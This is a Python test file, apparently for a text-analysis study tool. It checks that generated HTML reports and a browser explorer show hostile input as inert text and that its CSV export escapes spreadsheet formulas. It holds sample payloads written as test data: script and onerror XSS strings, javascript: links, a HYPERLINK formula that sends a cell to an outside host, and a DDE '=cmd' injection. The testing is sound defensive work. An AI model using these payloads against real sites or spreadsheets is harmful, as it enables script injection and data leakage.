"""A study of texts that are out to break the pages, from its seeds to what a browser shows."""

from __future__ import annotations

import csv
import html
import io
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from trstudy.corpus.adding import add_text
from trstudy.starting import start_study

HOSTILE = [
    '<script>document.title = "owned"; alert(1)</script>',
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)><svg/onload=alert(4)>",
    "{{ 7 * 7 }} {% raw %} ${alert(5)} `code` <!-- hidden",
    "[click](javascript:alert(6)) ![i](x:y) **bold** $$x^2$$",
    "“curly” 'single' \"double\" & &lt;b&gt; &amp;",
    "\u202eright to left\u202c and \u200fa mark",
    "a bell \x07 and an escape \x1b[31mred",
]
FORMULA = '=HYPERLINK("http://x.example/"&A1) helped Freedonia and Sylvania cooperate.'
# 190,000 characters in one sentence: far more than the explorer shows at once
LONG = f"Freedonia helped Sylvania with {'bread and milk and ' * 10_000}butter."
TITLE = 'T <script>alert(7)</script> "q" {{ 1 }} [l](javascript:alert(8))'
REPORTS = '[reports.default]\ntitle = "All"\nnotebooks = ["01_corpus", "02_frames"]\n'
PAGES = ["index", "01_corpus", "02_frames", "explorer"]
# the front page and the explorer; slides and the document for paper take as long as all the rest
REPORT = "from trstudy.commands import report; report.MAKERS = report.MAKERS[:2]; report.command()"


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    study = root / "study"
    start_study(study, ("Freedonia", "Sylvania"), name='A <b>study</b> & "co"')
    (study / "reports.toml").write_text(REPORTS, encoding="utf-8")
    said = [f"Freedonia helped Sylvania, said {words} in the evening." for words in HOSTILE]
    texts = {"one.txt": [*said, FORMULA], "two.txt": ["Freedonia attacked Sylvania.", LONG]}
    for name, paragraphs in texts.items():
        (root / name).write_text("\n\n".join(["A Title", *paragraphs, ""]), encoding="utf-8", newline="\n")
    author, outlet = "A. <img src=x onerror=alert(9)> Writer", "=cmd|' /C calc'!A0 </td> Times"
    seeds = study / "seeds"
    add_text(
        seeds, root / "one.txt", date="2020", date_source="inferred",
        title=TITLE, author=author, outlet=outlet,
    )  # fmt: skip
    add_text(seeds, root / "two.txt", date="2024", date_source="inferred", title="A Title")
    done = subprocess.run(
        [sys.executable, "-c", REPORT, "--study", str(study)],
        capture_output=True, encoding="utf-8", check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return study / "reports"


@pytest.fixture
def desk(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, offline=True)
    page, wrong = context.new_page(), []
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: wrong.append(message.text))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("requestfailed", lambda request: wrong.append(request.url))
    yield page, wrong
    context.close()
    assert wrong == []


def test_every_page_shows_hostile_texts_as_text(desk, report):
    page, _ = desk
    made = {path.relative_to(report).with_suffix("").as_posix() for path in report.rglob("*.html")}
    assert made >= set(PAGES)
    for name in sorted(made):
        page.goto((report / f"{name}.html").as_uri())
        assert "owned" not in page.title(), name
        injected = "img[src=x], [onerror], [onload], a[href^='javascript:'], body script:not([type]) ~ title"
        assert page.locator(injected).count() == 0, name
        assert "&amp;lt;b&amp;gt;" not in page.locator("body").inner_text(), name
    page.goto((report / "02_frames.html").as_uri())
    words = page.locator("main").evaluate("main => main.textContent")
    assert HOSTILE[0] in words
    assert HOSTILE[2] in words
    page.goto((report / "index.html").as_uri())
    assert TITLE in page.locator("main").evaluate("main => main.textContent")


def test_the_explorer_filters_and_exports_hostile_texts(desk, report):
    page, _ = desk
    page.goto((report / "explorer.html").as_uri())
    page.get_by_role("searchbox").fill("<script>document")
    expect(page.locator("#reading a.s")).to_have_count(1)
    assert HOSTILE[0] in page.locator("#reading a.s").evaluate("a => a.textContent")
    page.get_by_role("searchbox").fill("")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export").click()
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    csv.field_size_limit(2_000_000)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    texts = [row["text"] for row in rows]
    assert LONG in texts
    assert f"'{FORMULA}" in texts
    assert any(HOSTILE[0] in text for text in texts)
    assert {row["outlet"] for row in rows} == {"", "'=cmd|' /C calc'!A0 </td> Times"}
    assert {html.unescape(row["title"]) for row in rows} == {TITLE, "A Title"}
